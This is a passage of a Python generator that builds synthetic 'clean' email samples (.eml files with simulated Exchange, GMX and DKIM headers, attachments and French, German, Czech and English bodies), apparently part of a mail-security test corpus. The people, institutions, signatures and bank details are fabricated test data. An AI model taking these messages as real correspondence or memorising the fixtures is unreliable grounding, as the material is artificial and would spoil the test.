             "uni-greifenau.de", "QUARANTINE", country="DE", lang="en")
    dk = dkim(I, "uni-greifenau.de", "mail2024", "Date:From:To:Cc:Subject:Message-ID", sent)
    body = text(plain, "plain", "8bit", "UTF-8")
    body.params = '; charset=UTF-8; format=flowed'
    return deliver(I, sent + timedelta(seconds=2), CLAIRE, c, "\n".join([dk] + hops + author), body)


@sample("clean", "b10-clean-pi-ra-position-reply",
        "A professor's internal reply to a student's application for a research-assistant contract: interview in her "
        "office, contract and pay through the university HR, explicitly no bank details by email")
def c_pi(I: Ids) -> bytes:
    sent = T("2025-03-10 13:02:19")
    src = u_mbx(I, ISABELLE)
    dst = u_mbx(I, INES)
    prev = f"<{dst.split('.')[0]}{I.hex('piprev', 32, upper=True)}@{dst}>"
    subject = encq("RE: Candidature – assistant(e) de recherche (contrat étudiant)")
    author = exchange_author(I, sent, src, "CARON Isabelle <isabelle.caron@univ-montforez.fr>", "BENALI Ines <ines.benali@etu.univ-montforez.fr>",
                             subject, lang="fr-FR", in_reply_to=prev, references=prev,
                             thread_topic=encq("Candidature – assistant(e) de recherche (contrat étudiant)"))
    plain = ("Bonjour Inès,\n\nMerci pour votre candidature et votre CV. Je vous propose un entretien jeudi 13 mars à 14h dans mon bureau "
             "(bâtiment C, 2e étage, bureau C214) ; comptez une demi-heure.\n\n"
             "Pour information, le contrat étudiant est établi par la DRH de l'université : 10 h par semaine de mars à juin, payées au SMIC "
             "horaire sur votre fiche de paie. Si votre candidature est retenue, le service RH vous enverra la liste des pièces à fournir "
             "et vous les déposerez sur le portail RH - n'envoyez aucune information bancaire par courriel, ni à moi ni à personne.\n\n"
             "Apportez si possible votre relevé de notes du semestre 5.\n\nBien cordialement,\n\nIsabelle Caron\nProfesseure - Laboratoire "
             "d'écologie des hydrosystèmes\nUniversité de Montforez\n\n"
             "________________________________\nDe : BENALI Ines <ines.benali@etu.univ-montforez.fr>\nEnvoyé : dimanche 9 mars 2025 21:47\n"
             "À : CARON Isabelle <isabelle.caron@univ-montforez.fr>\nObjet : Candidature – assistant(e) de recherche (contrat étudiant)\n\n"
             "Bonjour Madame,\nJe vous écris au sujet de l'offre d'assistant(e) de recherche publiée sur JobTeaser. Vous trouverez mon CV "
             "en pièce jointe.\nCordialement,\nInès Benali, L3 Biologie\n")
    html = outlook_html("".join(f"<div>{l or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    return assemble([], m365_internal(I, sent, author, src, dst), alt(outlook_boundary(I, src), plain, html))


@sample("clean", "b10-clean-thread-reply-budget",
        "Genuine reply from a Portuguese partner in a real thread about a joint proposal budget, sent from his university's "
        "Exchange Online (DKIM/DMARC pass), answers the questions asked and attaches the budget justification .docx")
def c_budget(I: Ids) -> bytes:
    sent = T("2023-03-30 14:11:52")
    mbx = "AM9PR09MB4867.eurprd09.prod.outlook.com"
    prev = f"<CAH{I.alnum('bdprev', 44)}@mail.gmail.com>"
    subject = "RE: FCT-DFG joint call - budget table"
    author = exchange_author(I, sent, mbx, "Rui Carvalho <rui.carvalho@ipalvor.pt>", f"Beatriz Almeida <{BEATRIZ}>", subject,
                             lang="pt-PT", cc="Sofia Marques <sofia.marques@ipalvor.pt>", has_attach=True,
                             in_reply_to=prev, references=prev)
    origin, c = exchange_outbound(I, sent, mbx, "ipalvor.pt", "EUR05-VI1-obe.outbound.protection.outlook.com",
                                  "40.107.21.74", author, country="PT")
    plain = ("Hi Beatriz,\n\nThanks for the table. Answers to your questions:\n\n"
             "1. Personnel: yes, 24 months for the postdoc on our side, at the FCT reference salary (2,134.73 EUR/month), so 51,233 EUR.\n"
             "2. Equipment: we drop the second GCaMP imaging objective; the existing one on the 2P rig is enough. That saves 18,400 EUR.\n"
             "3. Travel: I kept 4 trips per year between Faro and Vienna, 1,100 EUR each.\n\n"
             "The justification text for our part is in the attached document, please merge it into section 6 of the proposal. Sofia "
             "will send the letters of commitment from the department next week.\n\nAbraço,\nRui\n\n"
             "--\nRui Carvalho, PhD\nCentro de Neurociências, Politécnico de Alvor\n\n"
             "________________________________\nFrom: Beatriz Almeida <beatriz.almeida@disn-research.eu>\nSent: Wednesday, March 29, 2023 6:02 PM\n"
             "To: Rui Carvalho <rui.carvalho@ipalvor.pt>\nSubject: FCT-DFG joint call - budget table\n\n"
             "Hi Rui,\n\nHere is the budget table from our side. Three questions: (1) how many postdoc months do you need, (2) do we "
             "really need the second objective, (3) how many trips per year? Deadline for the internal check is Monday.\n\nBeatriz\n")
    html = outlook_html("".join(f"<div>{l or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    docx = files.docx(["Budget justification - Politécnico de Alvor (partner 2)",
                       "Personnel: one postdoctoral researcher, 24 months, FCT reference salary.",
                       "Equipment: no new equipment; the existing two-photon microscope will be used.",
                       "Travel: four trips per year between Faro and Vienna for joint experiments and analysis.",
                       "Consumables: viral vectors, surgical supplies and animal housing, 9,600 EUR."],
                      "Budget justification", "Rui Carvalho")
    body = Multi("mixed", outlook_boundary(I, mbx, "mix"), [
        alt(outlook_boundary(I, mbx), plain, html),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Budget_justification_IPAlvor.docx", docx)])
    return deliver(I, sent + timedelta(seconds=2), BEATRIZ, c, origin, body)


@sample("clean", "b10-clean-conference-registration-confirmation",
        "A conference organiser at an Austrian university personally confirms a speaker's talk slot and attaches the "
        "registration invoice (pay by bank transfer to the university, matching its own domain); Exchange Online, all pass")
def c_conf(I: Ids) -> bytes:
    sent = T("2024-06-04 09:37:25")
    mbx = "VI1PR08MB10112.eurprd08.prod.outlook.com"
    subject = "NeuroDyn 2024 - your talk slot and registration invoice"
    author = exchange_author(I, sent, mbx, "Lukas Brenner <lukas.brenner@uni-salzach.at>", f"Tomasz Wisniewski <{TOMASZ}>", subject,
                             lang="de-AT", has_attach=True)
    origin, c = exchange_outbound(I, sent, mbx, "uni-salzach.at", "EUR03-VI1-obe.outbound.protection.outlook.com",
                                  "40.107.20.131", author, country="AT")
    plain = ("Dear Tomasz,\n\nthank you for registering for NeuroDyn 2024. Your talk \"Sparse coding in layer 2/3 during motor learning\" is "
             "scheduled on Wednesday 18 September, session 3 (Cortical dynamics), 11:20-11:40, lecture hall HS 2.\n\n"
             "Attached is the invoice for the registration fee (350 EUR). As mentioned on the website, payment is by bank transfer to the "
             "university account given on the invoice, with the invoice number as reference; your institute's administration can also "
             "pay it directly.\n\nThe speaker dinner is on Tuesday evening, please let me know if you have dietary requirements.\n\n"
             "Best regards,\nLukas\n\n--\nDr. Lukas Brenner\nNeuroDyn 2024 local organising committee\nDepartment of Biosciences, "
             "Universität Salzach\nhttps://www.uni-salzach.at/neurodyn2024\n")
    html = outlook_html("".join(f"<div>{linkify(l) or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    inv = files.pdf(["UNIVERSITAET SALZACH - Rechnung / Invoice", "", "Invoice no.: ND24-0217", "Date: 04.06.2024",
                     "Customer: Dr. Tomasz Wisniewski, DISN", "NeuroDyn 2024 - registration (regular)    350.00 EUR",
                     "", "Payment: bank transfer within 30 days", "Universitaet Salzach, Hypo Salzburg",
                     "IBAN: AT23 5500 0000 0201 4450", "Reference: ND24-0217"], title="Invoice ND24-0217")
    body = Multi("mixed", outlook_boundary(I, mbx, "mix"), [alt(outlook_boundary(I, mbx), plain, html),
                                                             attachment("application/pdf", "Invoice_ND24-0217.pdf", inv)])
    return deliver(I, sent + timedelta(seconds=2), TOMASZ, c, origin, body)


@sample("clean", "b10-clean-library-ill-reply",
        "Internal reply from a university librarian to a PhD student's interlibrary-loan request, with the scanned "
        "article as a PDF attachment")
def c_ill(I: Ids) -> bytes:
    sent = T("2023-02-14 10:48:03")
    src = u_mbx(I, LAURE)
    dst = u_mbx(I, AMINA)
    prev = f"<{dst.split('.')[0]}{I.hex('illprev', 32, upper=True)}@{dst}>"
    subject = encq("RE: Demande PEB n° 2023-0117")
    author = exchange_author(I, sent, src, "CHEVALIER Laure <laure.chevalier@univ-montforez.fr>", "DIALLO Amina <amina.diallo@univ-montforez.fr>",
                             subject, lang="fr-FR", has_attach=True, in_reply_to=prev, references=prev,
                             thread_topic=encq("Demande PEB n° 2023-0117"))
    plain = ("Bonjour Amina,\n\nVotre demande de prêt entre bibliothèques n° 2023-0117 est arrivée : vous trouverez ci-joint la copie "
             "numérique de l'article (Füreder et al., 2003), fournie par la bibliothèque de l'Université d'Innsbruck pour un usage "
             "personnel de recherche.\n\nLa facturation (5 EUR) sera imputée sur le budget du laboratoire comme d'habitude.\n\n"
             "Bonne journée,\n\nLaure Chevalier\nService du prêt entre bibliothèques - BU Sciences\n04 77 42 19 53\n")
    html = outlook_html("".join(f"<div>{l or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    scan = files.pdf(["Fureder L., Welter C., Jackson J.K. (2003)", "Dietary and stable isotope analysis of the alpine stream insect",
                      "Int. Review of Hydrobiology 88: 314-331", "", "[copie numerique - PEB 2023-0117 - usage personnel]"],
                     title="PEB 2023-0117")
    body = Multi("mixed", outlook_boundary(I, src, "mix"), [alt(outlook_boundary(I, src), plain, html),
                                                             attachment("application/pdf", "PEB_2023-0117_Fureder2003.pdf", scan)])
    return assemble([], m365_internal(I, sent, author, src, dst), body)


@sample("clean", "b10-clean-alumni-photos-webde",
        "A friend writes from GMX to an alumna's WEB.DE mailbox in German with two photos of their alumni reunion in "
        "Montforez attached (GMX DKIM/DMARC pass, Thunderbird)")
def c_photos(I: Ids) -> bytes:
    sent = T("2024-08-26 19:22:47")
    user = "julia.hartmann@gmx.de"
    subject = enc("Fotos vom Alumni-Treffen in Montforez")
    nem = f"1M{I.alnum('gmn1', 4)}-1{I.alnum('gmn2', 14)}-00{I.alnum('gmn3', 4)}"
    author = [f"Received: from [192.168.178.34] ([91.64.{I.num('jip', 1, 250)}.{I.num('jip2', 2, 250)}]) by mail.gmx.net\n"
              f" (mrgmx{I.num('mrg', 1, 9):03d} [212.227.17.190]) with ESMTPSA (Nemesis) id {nem}; {rfc(sent, 'Europe/Berlin')}",
              f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=gmx.de;\n\ts=s31663417; t={int(sent.timestamp())}; x={int(sent.timestamp()) + 604800};\n"
              f"\ti={user}; bh={bh(I, 'gmx.de')};\n\th=X-UI-Sender-Class:Message-ID:Date:MIME-Version:Subject:To:From:\n\t Content-Type:cc:content-transfer-encoding:content-type:date:from:\n"
              f"\t message-id:mime-version:reply-to:subject:to;\n\tb=" + "\n\t ".join(chunks(sig(I, "gmx.de"), 70)),
              "X-UI-Sender-Class: 814a7b36-bfc1-4dae-8640-3722d8ec6cd6",
              f"Message-ID: <{I.hex('jmid', 8)}-{I.hex('jmid2', 4)}-{I.hex('jmid3', 4)}-{I.hex('jmid4', 4)}-{I.hex('jmid5', 12)}@gmx.de>",
              f"Date: {rfc(sent, 'Europe/Berlin')}", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird", "Content-Language: de-DE",
              f"To: Sabine Keller <{SABINE}>", f"From: Julia Hartmann <{user}>", f"Subject: {subject}",
              f"X-Provags-ID: V03:K1:{I.b64('prov', 60)}", "X-Spam-Flag: NO", f"UI-OutboundReport: notjunk:1;M01:P0:{I.b64('uio', 11)}=;{I.b64('uio2', 80)}"]
    plain = ("Hallo Sabine,\n\nwie versprochen die Fotos vom Samstag! Das Gruppenbild vor der alten Fakultät ist leider etwas "
             "gegenlichtig, aber alle sind drauf. Das zweite ist vom Abendessen am Fluss.\n\nEs war so schön, alle nach zehn Jahren "
             "wiederzusehen. Nadia von der Alumni-Stelle meinte, sie plant nächstes Jahr wieder ein Treffen - diesmal im Juni.\n\n"
             "Liebe Grüße und bis bald in Leipzig,\nJulia\n")
    body = Multi("mixed", f"------------{I.alnum('tbb', 24, '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ')}", [
        text(plain, "plain", "8bit", "UTF-8"),
        attachment("image/jpeg", "IMG_20240824_173512.jpg", files.photo_jpeg(11, (480, 360))),
        attachment("image/jpeg", "IMG_20240824_211047.jpg", files.photo_jpeg(29, (480, 360)))])
    body.parts[0].params = '; charset=UTF-8; format=flowed'
    c = Conn(f"212.227.17.{I.num('mout', 20, 24)}", "mout.gmx.net", user, "pass", [("pass", "gmx.de", "s31663417")], "pass", "gmx.de",
             "NONE", country="DE", lang="de")
    return deliver(I, sent + timedelta(seconds=1), SABINE, c, "\n".join(author), body)


@sample("clean", "b10-clean-institute-travel-reimbursement",
        "The institute's finance officer (same Google Workspace domain) asks a postdoc to sign the travel-reimbursement "
        "form for a conference, PDF attached, no link")
def c_travel(I: Ids) -> bytes:
    sent = T("2023-07-11 11:35:28")
    frm = f"Markus Steiner <{MARKUS}>"
    subject = "Travel reimbursement FENS Forum 2023 - form to sign"
    origin, c = gmail_origin(I, sent, frm, f"David Okoro <{DAVID}>", subject, False, DAVID, tz="Europe/Vienna", workspace=INST)
    lines = ["Hi David,", "",
             "I've prepared the reimbursement for the FENS Forum in Paris (registration, train Vienna-Paris, 4 hotel nights). The total is "
             "1,486.40 EUR; the per diem is calculated according to the Austrian travel rules.", "",
             "Please check the attached form, sign it and drop it in my mailbox on the 2nd floor together with the original hotel invoice "
             "(the PDF you sent is fine for the train tickets). The amount will be paid with the August salary.", "",
             "Thanks,", "Markus", "", "--", "Markus Steiner", "Finance & Administration", "Danube Institute for Systems Neuroscience"]
    plain = "\n".join(lines) + "\n"
    form = files.pdf(["DISN - Reisekostenabrechnung / Travel expense claim", "", "Name: Dr. David Okoro", "Event: FENS Forum 2023, Paris",
                      "Dates: 08.07.2023 - 12.07.2023", "Registration: 560.00 EUR", "Train: 318.40 EUR", "Hotel (4 nights): 484.00 EUR",
                      "Per diem: 124.00 EUR", "Total: 1,486.40 EUR", "", "Signature: ____________________"], title="Travel claim")
    body = Multi("mixed", gmail_boundary(I, "mix"), [alt(gmail_boundary(I), plain, gmail_html(lines), "UTF-8"),
                                                     attachment("application/pdf", "Reisekosten_Okoro_FENS2023.pdf", form)])
    return deliver(I, sent + timedelta(seconds=1), DAVID, c, origin, body)


@sample("clean", "b10-clean-alumni-office-invitation-laposte",
        "The university alumni officer writes personally from her Exchange Online mailbox to an alumna's laposte.net "
        "address about the biology alumni reunion, link to the university's own website")
def c_alumni(I: Ids) -> bytes:
    sent = T("2025-04-08 09:12:36")
    mbx = u_mbx(I, "nadia.ferrand@univ-montforez.fr")
    subject = encq("Rencontre des anciens de biologie – samedi 24 mai")
    author = exchange_author(I, sent, mbx, "FERRAND Nadia <nadia.ferrand@univ-montforez.fr>", f"Jeanne Perrot <{JEANNE}>", subject,
                             lang="fr-FR", thread_topic=encq("Rencontre des anciens de biologie – samedi 24 mai"))
    origin, c = exchange_outbound(I, sent, mbx, UNIV, "FRA01-PR2-obe.outbound.protection.outlook.com", "40.107.12.84", author, country="FR")
    plain = ("Bonjour Jeanne,\n\nSuite à notre échange au salon des masters, je vous confirme que la rencontre des anciens de biologie aura "
             "lieu le samedi 24 mai à partir de 11h, sur le campus Tréfilerie (accueil dans le hall du bâtiment C).\n\n"
             "Au programme : visite des nouveaux laboratoires, table ronde « Carrières en écologie » (nous serions ravis que vous y "
             "parliez de votre poste au parc naturel) et déjeuner offert.\n\n"
             "Le programme et l'inscription (gratuite) sont sur la page https://www.univ-montforez.fr/alumni/rencontre-2025\n\n"
             "Dites-moi si vous acceptez d'intervenir à la table ronde, je vous appellerai pour en parler.\n\nBien cordialement,\n\n"
             "Nadia Ferrand\nChargée des relations alumni\nUniversité de Montforez\n04 77 42 17 26\n")
    html = outlook_html("".join(f"<div>{linkify(l) or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    return deliver(I, sent + timedelta(seconds=2), JEANNE, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("clean", "b10-clean-czech-colleague-nextcloud",
        "A Czech colleague writes in Czech (Thunderbird, his institute's Postfix relay, DKIM/DMARC pass) with a link to "
        "measurement data on his institute's own Nextcloud and a specific question about the joint analysis")
def c_czech(I: Ids) -> bytes:
    sent = T("2026-03-03 14:40:09")
    user = "jakub.dvorak@ueko.cz"
    share = f"https://cloud.ueko.cz/s/{I.alnum('nct', 15)}"
    subject = enc("Data z měření – únor 2026")
    author = kit_author(I, sent, f"{enc('Jakub Dvořák')} <{user}>", f"{enc('Petra Horáková')} <{PETRA}>", subject, "Europe/Prague",
                        mid=f"{I.hex('jdmid', 8)}-{I.hex('jdmid2', 4)}-{I.hex('jdmid3', 4)}-{I.hex('jdmid4', 4)}-{I.hex('jdmid5', 12)}",
                        mid_domain="ueko.cz", extra=["User-Agent: Mozilla Thunderbird", "Content-Language: cs"])
    plain = ("Ahoj Petro,\n\nposílám odkaz na data z únorového měření (heslo ti pošlu zvlášť SMS, jako minule):\n\n"
             f"{share}\n\n"
             "Jsou tam surové záznamy ze všech 12 sezení a tabulka s časy stimulace. U sezení 7 vypadl jeden kanál, takže ho prosím "
             "zatím vynech.\n\nMůžeš se podívat, jestli ti sedí vzorkovací frekvence v metadatech? Myslím, že jsme v lednu omylem "
             "ukládali 20 kHz místo 30 kHz.\n\nDíky a měj se,\nJakub\n\n-- \nMgr. Jakub Dvořák, Ph.D.\nOddělení neurofyziologie\n")
    hops = [postfix_hop(I, sent + timedelta(seconds=1), "mail.ueko.cz", "[10.20.1.45]", "195.113.178.40", PETRA, "Europe/Prague",
                        auth=user, label="jd1")]
    c = Conn("195.113.178.12", "mail.ueko.cz", user, "pass", [("pass", "ueko.cz", "mail")], "pass", "ueko.cz", "NONE",
             country="CZ", lang="cs")
    body = text(plain, "plain", "8bit", "UTF-8")
    body.params = '; charset=UTF-8; format=flowed'
    return deliver(I, sent + timedelta(seconds=2), PETRA, c, "\n".join([dkim(I, "ueko.cz", "mail", "Date:From:To:Subject:Message-ID", sent)] + hops + author), body)


# --------------------------------------------------------------------------------------------


def main() -> None:
    lines = []
    seen = set()
    counts: dict[str, int] = {}
    for category, name, description, fn in SAMPLES:
        assert name.startswith("b10-") and name not in seen, name
        seen.add(name)
        data = fn(Ids(name))
        path = OUT / category / f"{name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"samples/mail/{category}/{name}.eml | {category} | {description}")
        counts[category] = counts.get(category, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(", ".join(f"{k}: {v}" for k, v in sorted(counts.items())), f"(manifest {MANIFEST.relative_to(ROOT)})")


if __name__ == "__main__":
    main()
